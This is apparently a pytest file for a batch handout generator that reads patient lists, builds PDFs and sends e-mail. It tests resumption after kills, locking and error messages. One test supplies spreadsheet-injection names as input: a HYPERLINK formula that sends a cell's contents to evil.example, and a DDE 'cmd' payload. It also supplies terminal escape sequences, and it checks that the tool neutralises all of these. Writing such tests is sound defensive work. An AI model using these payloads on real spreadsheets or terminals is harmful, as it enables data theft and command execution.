"""`pdfgen batch`: 50 patients, bad rows, a BOM, resuming, drafts, e-mail, interruption."""

from __future__ import annotations

import csv
import email
import fcntl
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
from collections import Counter
from email import policy
from pathlib import Path

import pytest
from conftest import files_in, pdf_text, run, succeeds
from test_mail import CountingMailbox, Mailbox, free_port, mail_env

from pdfgen.content.project import Project
from pdfgen.deliver.batch import run_batch

NAMES = ["Zoë Łódź-Müller", "Ελένη Παπά", "Жанна Иванова", "Jane Doe", "José Núñez",
         "O'Brien & Sons", "Ana Ruiz", "Li Wei", "Jane Doe", "Björk Guðmundsdóttir"]


def patients_csv(path: Path, rows: list[dict[str, str]], bom: bool = True) -> Path:
    columns = list(rows[0]) if rows else ["name"]
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def fifty(demo: Path) -> Path:
    rows = [{"name": f"{NAMES[i % len(NAMES)]}", "level": str(1 + i % 2), "plan": "",
             "date": "2026-11-24", "email": f"p{i}@example.com"} for i in range(50)]
    rows[7]["level"] = "9"  # no such level
    rows[20]["plan"] = "content/plans/missing.yaml"
    rows[20]["level"] = ""
    return patients_csv(demo / "patients.csv", rows)


def report(out: Path) -> list[dict[str, str]]:
    with (out / "batch-report.csv").open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_fifty_patients_two_bad_rows(demo: Path) -> None:
    patients = fifty(demo)
    result = run("batch", str(patients), "--jobs", "2", cwd=demo)
    assert result.exit_code == 1, result.output
    out = demo / "out" / "patients"  # a folder per list
    pdfs = [f for f in files_in(out) if f.endswith(".pdf")]
    assert len(pdfs) == 48 and len(set(pdfs)) == 48  # two Jane Does do not overwrite
    assert "back-pain-level-2-jane-doe.pdf" in pdfs
    assert "back-pain-level-2-jane-doe-2.pdf" in pdfs
    lines = report(out)
    assert len(lines) == 50
    failed = {line["row"]: line["error"] for line in lines if line["status"] == "failed"}
    assert failed == {
        "9": "level 9: no such level for back-pain (known: 1, 2)",
        "22": "plan content/plans/missing.yaml: no such file",
    }
    assert "row 9 (Li Wei): level 9: no such level for back-pain" in result.stdout
    assert "46" not in failed
    zoe = next(line for line in lines if line["row"] == "2")
    assert "Prepared for Zoë Łódź-Müller on November 24, 2026" in pdf_text(out / zoe["file"])

    # The same batch again: everything is up to date, nothing is built.
    before = {f: (out / f).stat().st_mtime_ns for f in pdfs}
    again = run("batch", str(patients), "--jobs", "2", cwd=demo)
    assert again.exit_code == 1
    assert again.stdout.splitlines()[-3].startswith("0 built, 48 already up to date, 2 failed")
    assert before == {f: (out / f).stat().st_mtime_ns for f in pdfs}


def test_a_changed_exercise_makes_the_handouts_out_of_date(demo: Path) -> None:
    patients = patients_csv(demo / "p.csv", [{"name": "Ana", "level": "2"}])
    succeeds(run("batch", str(patients), "--jobs", "1", cwd=demo))
    squat = demo / "content/exercises/squat.yaml"
    squat.write_text(squat.read_text().replace("Squat", "Squat!", 1))
    result = run("batch", str(patients), "--jobs", "1", cwd=demo)
    assert result.stdout.splitlines()[-1].startswith("1 built, 0 already up to date")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "error: list.csv: the file is empty; expected a header line with a name column "
             "(name, level, routine, plan, date, email, language)"),
        ("level,email\n2,a@example.com\n", "error: list.csv: no 'name' column; the header "
                                           "line must name it"),
        ("name,level,phone\nAna,2,555\n", "error: list.csv: unknown column(s) 'phone'; "
                                          "expected name, level, routine, plan, date, email, "
                                          "language"),
        ("name,level\n", "error: list.csv: no patients below the header line"),
    ],
)
def test_an_unusable_list_is_exit_2_and_one_line(demo: Path, text: str, message: str) -> None:
    (demo / "list.csv").write_text(text, encoding="utf-8")
    result = run("batch", "list.csv", cwd=demo)
    assert (result.exit_code, result.stderr) == (2, message + "\n")
    assert files_in(demo / "out") == []


def test_drafts_one_eml_per_row(demo: Path) -> None:
    rows = [{"name": n, "level": "2", "email": f"{i}@example.com"}
            for i, n in enumerate(["Ana Ruiz", "Li Wei", "Jo Park"])]
    result = run("batch", str(patients_csv(demo / "p.csv", rows)), "--draft", "--jobs", "2",
                 cwd=demo)
    assert result.exit_code == 0, result.output
    out = demo / "out" / "p"
    emls = [f for f in files_in(out) if f.endswith(".eml")]
    assert len(emls) == 3
    draft = email.message_from_bytes((out / "back-pain-level-2-li-wei.eml").read_bytes(),
                                     policy=policy.default)
    assert draft["To"] == "1@example.com" and draft["X-Unsent"] == "1"
    (attachment,) = list(draft.iter_attachments())
    assert attachment.get_content() == (out / "back-pain-level-2-li-wei.pdf").read_bytes()


def test_email_every_patient_over_one_connection_per_worker(demo: Path) -> None:
    from aiosmtpd.controller import Controller

    box = CountingMailbox()
    controller = Controller(box, hostname="127.0.0.1", port=free_port(),
                            auth_require_tls=False)
    controller.start()
    try:
        rows = [{"name": f"Patient {i}", "level": "2", "email": f"p{i}@example.com"}
                for i in range(12)]
        env = {k: v for k, v in mail_env(controller.port).items()
               if k not in ("PDFGEN_SMTP_USER",)}
        result = run("batch", str(patients_csv(demo / "p.csv", rows)), "--email", "--jobs",
                     "2", cwd=demo, env=env)
    finally:
        controller.stop()
    assert result.exit_code == 0, result.output
    received = sorted(e.rcpt_tos[0] for e in box.received)
    assert received == sorted(f"p{i}@example.com" for i in range(12))
    assert 1 <= box.sessions <= 2  # one connection per worker, not one per message


def test_an_interrupted_batch_leaves_whole_files_and_resumes(demo: Path) -> None:
    rows = [{"name": f"Patient {i}", "level": "2"} for i in range(6)]
    patients = patients_csv(demo / "p.csv", rows)
    project = Project(root=demo, out_dir=demo / "out")
    seen = []

    def stop_after_two(outcome, left) -> None:
        seen.append(outcome)
        if len(seen) == 2:
            raise KeyboardInterrupt

    summary = run_batch(project, patients, demo / "out", "build", 1, stop_after_two)
    assert summary.interrupted
    pdfs = [f for f in files_in(demo / "out") if f.endswith(".pdf")]
    assert len(pdfs) == 2
    assert not [f for f in files_in(demo / "out") if f.endswith(".part")]
    statuses = [line["status"] for line in report(demo / "out")]
    assert statuses.count("built") == 2 and statuses.count("not done") == 4
    result = run("batch", str(patients), "--jobs", "2", "--output", "out", cwd=demo)
    assert result.exit_code == 0
    assert result.stdout.splitlines()[-1].startswith("4 built, 2 already up to date, 0 failed")


def test_a_built_batch_is_still_e_mailed_and_rows_need_a_name(demo: Path) -> None:
    from aiosmtpd.controller import Controller

    box = Mailbox()
    controller = Controller(box, hostname="127.0.0.1", port=free_port())
    controller.start()
    env = {k: v for k, v in mail_env(controller.port).items() if k != "PDFGEN_SMTP_USER"}
    rows = [{"name": "Ana", "level": "2", "email": "ana@example.com"},
            {"name": "", "level": "2", "email": "nobody@example.com"}]
    patients = patients_csv(demo / "p.csv", rows)
    try:
        assert run("batch", str(patients), "--jobs", "1", cwd=demo, env=env).exit_code == 1
        sent = run("batch", str(patients), "--email", "--jobs", "1", cwd=demo, env=env)
        again = run("batch", str(patients), "--email", "--jobs", "1", cwd=demo, env=env)
    finally:
        controller.stop()
    # Built before is not e-mailed before: Ana gets her mail, once.
    assert [e.rcpt_tos for e in box.received] == [["ana@example.com"]]
    assert "row 3 (): name: empty; every row needs the patient's name" in sent.stdout
    assert again.stdout.splitlines()[-2].startswith("0 sent, 1 already sent, 1 failed")


def test_a_list_saved_with_semicolons_is_read(demo: Path) -> None:
    (demo / "semi.csv").write_text("name;level\nAna Ruiz;2\n", encoding="utf-8-sig")
    result = run("batch", "semi.csv", cwd=demo)
    assert result.exit_code == 0, result.output
    assert (demo / "out/semi/back-pain-level-2-ana-ruiz.pdf").is_file()


# --- crashes, a second run, and hostile lists ----------------------------------------------

def pdfgen(*args: str, cwd: Path, env: dict[str, str] | None = None,
           fsize: int | None = None) -> subprocess.Popen[str]:
    """The real `pdfgen` in a process of its own (so it can be killed), bounded in memory."""
    def limits() -> None:
        # As from a terminal: a test run started in the background (`&`) ignores Ctrl-C,
        # and the batch would inherit that.
        signal.signal(signal.SIGINT, signal.SIG_DFL)
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    full_env = {**os.environ, "XDG_CACHE_HOME": str(cwd / ".cache"), **(env or {})}
    return subprocess.Popen([sys.executable, "-m", "pdfgen", *args], cwd=cwd, env=full_env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            preexec_fn=limits)


def finish(process: subprocess.Popen[str], timeout: float = 120) -> tuple[int, str, str]:
    out, err = process.communicate(timeout=timeout)
    return process.returncode, out, err


def wait_for_unlocked(folder: Path, timeout: float = 30) -> None:
    """Until no process of the killed batch holds its folder any more."""
    deadline = time.monotonic() + timeout
    with (folder / ".pdfgen-batch.lock").open("a") as handle:
        while True:
            try:
                fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                assert time.monotonic() < deadline, "the killed batch's workers never ended"
                time.sleep(0.1)
                continue
            fcntl.flock(handle, fcntl.LOCK_UN)
            return


class Killer(Mailbox):
    """Receives mail; at the Nth message, signals the batch before saying 250 (the moment
    the mail is on the server but the client does not know it yet)."""

    def __init__(self, after: int, signal_number: int, delay: float = 0) -> None:
        super().__init__()
        self.after, self.signal_number, self.delay = after, signal_number, delay
        self.pid = 0
        self.signalled = 0  # at which message the signal went

    async def handle_DATA(self, server, session, envelope):
        import asyncio

        self.received.append(envelope)
        # At the Nth message, or the first after it once the batch's pid is known (on a
        # loaded machine the test may learn it late).
        if self.after and len(self.received) >= self.after and self.pid and not self.signalled:
            self.signalled = len(self.received)
            os.kill(self.pid, self.signal_number)
            await asyncio.sleep(0.3)  # the signal lands before the answer
        elif self.delay:
            await asyncio.sleep(self.delay)
        return "250 Message accepted"


def twelve(demo: Path) -> Path:
    rows = [{"name": f"Patient {i}", "level": "2", "date": "2026-11-24",
             "email": f"p{i}@example.com"} for i in range(12)]
    return patients_csv(demo / "p.csv", rows)


def no_login(port: int) -> dict[str, str]:
    return {k: v for k, v in mail_env(port).items() if k != "PDFGEN_SMTP_USER"}


@pytest.mark.parametrize(("jobs", "signal_number"), [
    ("1", signal.SIGKILL), ("2", signal.SIGKILL), ("1", signal.SIGTERM), ("2", signal.SIGINT),
])
def test_a_batch_killed_mid_mail_never_mails_anyone_twice(demo: Path, jobs: str,
                                                         signal_number: int) -> None:
    from aiosmtpd.controller import Controller

    box = Killer(after=4, signal_number=signal_number)
    controller = Controller(box, hostname="127.0.0.1", port=free_port())
    controller.start()
    patients = twelve(demo)
    try:
        first = pdfgen("batch", "p.csv", "--email", "--jobs", jobs, cwd=demo,
                       env=no_login(controller.port))
        box.pid = first.pid
        code, out, err = finish(first)
        assert box.signalled, ("the batch ended before it was signalled", code, out, err)
        assert code == (-9 if signal_number == signal.SIGKILL else 130), (
            f"signalled at message {box.signalled} of {len(box.received)}", out, err)
        assert "Traceback" not in err
        if signal_number != signal.SIGKILL:
            assert out.splitlines()[-1].startswith("Stopped: every file written is whole")
            # The stopped batch's own report: whoever the server got a mail for is "sent"
            # (or "unconfirmed"), never "not done" for the front desk to send by hand.
            stopped = {line["name"].replace("Patient ", "p") + "@example.com": line["status"]
                       for line in report(demo / "out/p")}
            mailed = {e.rcpt_tos[0] for e in box.received}
            assert all(stopped[a] in ("sent", "unconfirmed") for a in mailed), (stopped, out)
        wait_for_unlocked(demo / "out/p")
        box.pid = 0
        code, out, err = finish(pdfgen("batch", str(patients), "--email", "--jobs", jobs,
                                       cwd=demo, env=no_login(controller.port)))
    finally:
        controller.stop()
    counts = Counter(e.rcpt_tos[0] for e in box.received)
    assert max(counts.values()) == 1, ("someone was mailed twice", counts, out, err)
    assert not [f for f in files_in(demo / "out/p") if f.endswith(".part")]
    assert len([f for f in files_in(demo / "out/p") if f.endswith(".pdf")]) == 12
    lines = report(demo / "out/p")
    unconfirmed = {line["name"].replace("Patient ", "p") + "@example.com"
                   for line in lines if line["status"] == "unconfirmed"}
    everyone = {f"p{i}@example.com" for i in range(12)}
    # Whoever did not get a mail is one the report names as "not confirmed", never silently.
    assert everyone - set(counts) <= unconfirmed, (counts, unconfirmed, out, err)
    if signal_number == signal.SIGKILL and jobs == "1":
        # Killed between the message and the server's answer: it arrived, but pdfgen could
        # not know; it says so and does not send it again.
        assert code == 1, (out, err)
        assert unconfirmed == {"p3@example.com"}, (unconfirmed, out, err)
        assert "1 not confirmed" in out.splitlines()[-2]
        assert "row 5 (Patient 3): the batch stopped while this mail was being sent" in out
    elif signal_number == signal.SIGKILL:
        # The workers outlive their parent by the moment their own ending signal takes: a
        # mail they were sending either got its answer (sent) or is reported "not confirmed".
        assert len(unconfirmed) <= int(jobs), (unconfirmed, out, err)
        assert code == (1 if unconfirmed else 0), (out, err)
        if unconfirmed:
            assert f"{len(unconfirmed)} not confirmed" in out.splitlines()[-2]
    else:
        assert counts == dict.fromkeys(everyone, 1), (counts, out, err)
        assert code == 0, (out, err)
        assert {line["status"] for line in lines} <= {"sent", "skipped"}


def test_two_batches_of_one_list_at_once_send_each_mail_once(demo: Path) -> None:
    from aiosmtpd.controller import Controller

    box = Killer(after=0, signal_number=0, delay=0.3)  # a slow server: the runs overlap
    controller = Controller(box, hostname="127.0.0.1", port=free_port())
    controller.start()
    twelve(demo)
    try:
        first = pdfgen("batch", "p.csv", "--email", "--jobs", "1", cwd=demo,
                       env=no_login(controller.port))
        deadline = time.monotonic() + 60
        while not box.received:
            if first.poll() is not None:
                raise AssertionError(("the first batch ended before any mail", finish(first)))
            assert time.monotonic() < deadline
            time.sleep(0.05)
        second = finish(pdfgen("batch", "p.csv", "--email", "--jobs", "1", cwd=demo,
                               env=no_login(controller.port)))
        code, out, err = finish(first)
    finally:
        controller.stop()
    assert code == 0, (out, err)
    assert second == (2, "", f"error: out/p: another pdfgen batch is working on this list "
                             f"(process {first.pid}); wait for it to finish, then run the "
                             "same command again\n")
    assert len(box.received) == 12
    assert Counter(e.rcpt_tos[0] for e in box.received) == {
        f"p{i}@example.com": 1 for i in range(12)}


def test_a_build_killed_with_kill_9_resumes_and_leaves_no_part_files(demo: Path) -> None:
    rows = [{"name": f"Patient {i}", "level": "2", "date": "2026-11-24"} for i in range(12)]
    patients_csv(demo / "p.csv", rows)
    first = pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo)
    out = demo / "out/p"
    deadline = time.monotonic() + 60
    while len([f for f in files_in(out) if f.endswith(".pdf")]) < 3:
        assert time.monotonic() < deadline and first.poll() is None
        time.sleep(0.02)
    first.send_signal(signal.SIGKILL)
    assert finish(first)[0] == -9
    built = {f: (out / f).read_bytes() for f in files_in(out) if f.endswith(".pdf")}
    # What kill -9 leaves when it lands during a write (a rename never happened).
    (out / ".back-pain-level-2-patient-11.pdf.x1y2.part").write_bytes(b"%PDF-1.4 half")
    code, stdout, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo))
    assert code == 0, (stdout, err)
    done, skipped = re.match(r"(\d+) built, (\d+) already up to date, 0 failed",
                             stdout.splitlines()[-1]).groups()
    assert int(skipped) >= len(built) - 1 and int(done) + int(skipped) == 12
    assert not [f for f in files_in(demo / "out") if f.endswith(".part")]
    assert len([f for f in files_in(out) if f.endswith(".pdf")]) == 12


def test_the_report_is_text_in_a_spreadsheet_and_names_are_safe_to_print(demo: Path) -> None:
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)", "-2+3", "Ana \x1b]0;pwned\x07\x1b[31mRed\u202eevil"]
    rows = [{"name": n, "level": "9"} for n in names]  # every row fails: names get printed
    result = run("batch", str(patients_csv(demo / "p.csv", rows)), cwd=demo)
    assert result.exit_code == 1, result.output
    assert not any(c in result.output for c in "\x1b\x07\u202e")
    assert "row 6 (Ana \\x1b]0;pwned\\x07\\x1b[31mRed\\u202eevil): level 9" in result.stdout
    cells = [cell for line in report(demo / "out/p") for cell in line.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [line["name"] for line in report(demo / "out/p")][:4] == [
        "'" + name for name in names[:4]]
    assert not any(c in (demo / "out/p/batch-report.csv").read_text() for c in "\x1b\x07")


def test_a_list_is_read_as_rfc_4180_says(demo: Path) -> None:
    (demo / "p.csv").write_text(
        'name,level,email\n"Jane\nDoe",2,jane@example.com\n'
        "Ana\u2028Ruiz,1,ana@example.com\nBo Li,2,bo@example.com\n", encoding="utf-8")
    result = run("batch", "p.csv", "--draft", cwd=demo)
    assert result.exit_code == 0, result.output
    lines = report(demo / "out/p")
    assert [(line["row"], line["name"], line["file"]) for line in lines] == [
        ("2", "Jane Doe", "back-pain-level-2-jane-doe.pdf"),
        ("3", "Ana Ruiz", "back-pain-level-1-ana-ruiz.pdf"),
        ("4", "Bo Li", "back-pain-level-2-bo-li.pdf")]
    assert "Prepared for Jane Doe" in pdf_text(demo / "out/p/back-pain-level-2-jane-doe.pdf")
    draft = email.message_from_bytes(
        (demo / "out/p/back-pain-level-1-ana-ruiz.eml").read_bytes(), policy=policy.default)
    assert draft["To"] == "ana@example.com"


@pytest.mark.parametrize(("text", "message"), [
    ("name,level\nAna,2,extra\n",
     "error: list.csv: row 2: 3 cells but the header names 2 columns (name, level); cell 3 is "
     "'extra': put a cell that holds a comma in double quotes"),
    ("name;level\nAna;2\nBo;1;x;y\n",
     "error: list.csv: row 3: 4 cells but the header names 2 columns (name, level); cell 3 is "
     "'x': put a cell that holds a semicolon in double quotes"),
    ('name,level\nAna,2\n"Bo"x,1\n',
     'error: list.csv: row 3: not valid CSV (near line 3 of the file): a cell with a double '
     'quote must start and end with one, and a quote inside it is written twice ("")'),
])
def test_an_invalid_row_is_refused_naming_it(demo: Path, text: str, message: str) -> None:
    (demo / "list.csv").write_text(text, encoding="utf-8")
    result = run("batch", "list.csv", cwd=demo)
    assert (result.exit_code, result.stderr) == (2, message + "\n")
    assert files_in(demo / "out") == []


def test_lists_of_one_name_in_two_folders_keep_their_own_batch(demo: Path) -> None:
    for folder, name in (("a", "Ana Ruiz"), ("b", "Bo Li")):
        (demo / folder).mkdir()
        patients_csv(demo / folder / "patients.csv", [{"name": name, "level": "2"}])
    first = run("batch", "a/patients.csv", cwd=demo)
    second = run("batch", "b/patients.csv", cwd=demo)
    again = run("batch", "a/patients.csv", cwd=demo)
    assert (first.exit_code, second.exit_code, again.exit_code) == (0, 0, 0)
    assert "report: out/patients/batch-report.csv" in first.stdout
    assert "report: out/patients-2/batch-report.csv" in second.stdout
    assert [line["name"] for line in report(demo / "out/patients")] == ["Ana Ruiz"]
    assert [line["name"] for line in report(demo / "out/patients-2")] == ["Bo Li"]
    assert again.stdout.splitlines()[-1] == ("0 built, 1 already up to date, 0 failed; "
                                             "report: out/patients/batch-report.csv")


def test_failed_rows_are_listed_in_the_order_of_the_list(demo: Path) -> None:
    rows = [{"name": f"Patient {i}", "level": "2"} for i in range(8)]
    rows[3]["level"] = rows[4]["level"] = "9"  # row 5 fails after 3 builds, row 6 at once
    result = run("batch", str(patients_csv(demo / "p.csv", rows)), "--jobs", "2", cwd=demo)
    assert result.exit_code == 1, result.output
    failed = [line for line in result.stdout.splitlines() if line.startswith("  row ")]
    assert [line.split(" (")[0] for line in failed] == ["  row 5", "  row 6"]


def test_a_full_disk_stops_the_batch_in_one_line_keeping_what_is_done(demo: Path) -> None:
    # A file-size limit between the sizes of this list's level 1 and level 2 handouts lets
    # the first rows be written and makes the fourth fail as a full disk would (EFBIG).
    rows = [{"name": f"Patient {i}", "level": "2" if i == 3 else "1", "date": "2026-11-24"}
            for i in range(6)]
    sizes = []
    for level, name in (("1", "Patient 5"), ("2", "Patient 3")):
        made = run("handout", "--level", level, "--patient", name, "--date", "2026-11-24",
                   "--output", f"size-{level}.pdf", cwd=demo)
        assert made.exit_code == 0, made.output
        sizes.append((demo / f"size-{level}.pdf").stat().st_size)
    assert sizes[0] + 200 < sizes[1], sizes
    patients_csv(demo / "p.csv", rows)
    code, out, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo,
                                   fsize=(sizes[0] + sizes[1]) // 2))
    assert code == 2, (out, err)
    assert err == ("error: out/p: cannot write back-pain-level-2-patient-3.pdf (File "
                   "too large); the batch stopped, the 3 handout(s) done are kept and listed "
                   "in batch-report.csv; make room (or fix the folder) and run the same "
                   "command again\n")
    out_dir = demo / "out/p"
    assert sorted(f for f in files_in(out_dir) if f.endswith(".pdf")) == [
        f"back-pain-level-1-patient-{i}.pdf" for i in range(3)]
    assert not [f for f in files_in(demo / "out") if f.endswith(".part")]
    assert [line["status"] for line in report(out_dir)] == [
        "built", "built", "built", "failed", "not done", "not done"]
    code, out, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo))
    assert code == 0, (out, err)
    assert out.splitlines()[-1].startswith("3 built, 3 already up to date, 0 failed (")


def test_a_file_where_the_batch_folder_goes_is_one_line(demo: Path) -> None:
    patients_csv(demo / "p.csv", [{"name": "Ana", "level": "2"}])
    (demo / "out").mkdir()
    (demo / "out/p").write_text("not a folder")
    code, out, err = finish(pdfgen("batch", "p.csv", cwd=demo))
    assert (code, out, err) == (2, "", "error: out/p: is a file, expected a folder for the "
                                       "batch's handouts\n")


def test_a_re_run_with_nothing_to_do_gives_no_rate(demo: Path) -> None:
    patients = patients_csv(demo / "p.csv", [{"name": "Ana", "level": "2"}])
    assert run("batch", str(patients), cwd=demo).exit_code == 0
    again = run("batch", str(patients), cwd=demo)
    assert again.stdout.splitlines()[-1] == ("0 built, 1 already up to date, 0 failed; "
                                             "report: out/p/batch-report.csv")


def test_a_plan_of_another_clinic_is_never_built_with_this_ones_branding(
        demo: Path, tmp_path: Path) -> None:
    other = tmp_path / "sol"
    shutil.copytree(demo / "content", other / "content")
    toml = other / "content/clinic.toml"
    toml.write_text(toml.read_text().replace('name = "Mangrove Bay Chiropractic"',
                                             'name = "Clínica Sol"'))
    theirs = other / "content/plans/example.yaml"
    patients_csv(demo / "p.csv", [{"name": "Jane Example", "plan": str(theirs)},
                                  {"name": "Jane Example", "plan": "content/plans/example.yaml"}])
    code, out, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo))
    assert code == 1, (out, err)
    rows = report(demo / "out/p")
    assert [row["status"] for row in rows] == ["failed", "built"]
    assert rows[0]["error"] == (f"plan: {theirs} belongs to the clinic in {other}; put it in "
                                "that clinic's own patient list")
    assert sorted(f for f in files_in(demo / "out/p") if f.endswith(".pdf")) == [
        "back-pain-level-2-jane-example-2.pdf"]


def test_a_row_pointing_at_another_patients_plan_is_refused(demo: Path) -> None:
    """example.yaml is Jane Example's (its patient:): a row for Sam naming it would print
    Jane's exercises and notes under Sam's name. That row fails with the reason; Jane's row
    (any case and spacing) and a row of a plan that names no patient are built."""
    shared = demo / "content/plans/shared.yaml"
    shared.write_text("routine: back-pain\nlevel: 1\n", encoding="utf-8")
    patients_csv(demo / "p.csv", [
        {"name": "Sam Planrow", "plan": "content/plans/example.yaml"},
        {"name": "jane  example", "plan": "content/plans/example.yaml"},
        {"name": "Sam Planrow", "plan": "content/plans/shared.yaml"}])
    code, out, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo))
    assert code == 1, (out, err)
    rows = report(demo / "out/p")
    assert [row["status"] for row in rows] == ["failed", "built", "built"], rows
    assert rows[0]["error"] == (
        "plan content/plans/example.yaml: it is Jane Example's (its patient:), not Sam "
        "Planrow's: check the row's plan, or take patient: out of the plan to use it for "
        "many patients")
    assert "Prepared for Sam Planrow" in pdf_text(demo / "out/p" / rows[2]["file"])
    assert sorted(f for f in files_in(demo / "out/p") if f.endswith(".pdf")) == [
        "back-pain-level-1-sam-planrow.pdf", "back-pain-level-2-jane-example.pdf"]


def test_a_handout_mailed_once_is_not_mailed_again_by_another_list_or_pdfgen_email(
        demo: Path) -> None:
    """One record of every mail for the clinic: the same list saved in another folder, the
    list run again after a routine's title changed (Level 2's handout unchanged), and
    `pdfgen email` of the same handout all leave the patient with the one mail."""
    from aiosmtpd.controller import Controller

    box = Mailbox()
    controller = Controller(box, hostname="127.0.0.1", port=free_port())
    controller.start()
    rows = [{"name": "Ann One", "level": "2", "date": "2026-11-24", "email": "ann@example.com"},
            {"name": "Bo Two", "level": "1", "date": "2026-11-24", "email": "bo@example.com"}]
    try:
        env = no_login(controller.port)
        first = finish(pdfgen("batch", str(patients_csv(demo / "monday.csv", rows)),
                              "--email", cwd=demo, env=env))
        assert first[0] == 0, first
        (demo / "saved").mkdir()
        again = finish(pdfgen("batch", str(patients_csv(demo / "saved/monday.csv", rows)),
                              "--email", cwd=demo, env=env))
        assert again[0] == 0, again
        assert again[1].splitlines()[-1].startswith("0 sent, 2 already sent"), again
        level_1 = demo / "content/routines/back-pain/level-1.yaml"
        level_1.write_text(level_1.read_text(encoding="utf-8").replace(
            "title: ", "title: New ", 1), encoding="utf-8")
        edited = finish(pdfgen("batch", str(demo / "monday.csv"), "--email", cwd=demo,
                               env=env))
        assert edited[0] == 0, edited
        assert edited[1].splitlines()[-1].startswith("1 sent, 1 already sent"), edited
        single = finish(pdfgen("email", "--level", "2", "--patient", "Ann One", "--date",
                               "2026-11-24", "--to", "ann@example.com", cwd=demo, env=env))
    finally:
        controller.stop()
    assert single[0] == 2, single
    assert "this handout was sent to ann@example.com on" in single[2], single
    # Ann's Level 2 handout went once; Bo's Level 1 twice, the second with the new title.
    assert Counter(e.rcpt_tos[0] for e in box.received) == {"ann@example.com": 1,
                                                            "bo@example.com": 2}
    status = {line["name"]: line["status"] for line in report(demo / "out/monday-2")}
    assert status == {"Ann One": "skipped", "Bo Two": "skipped"}, status
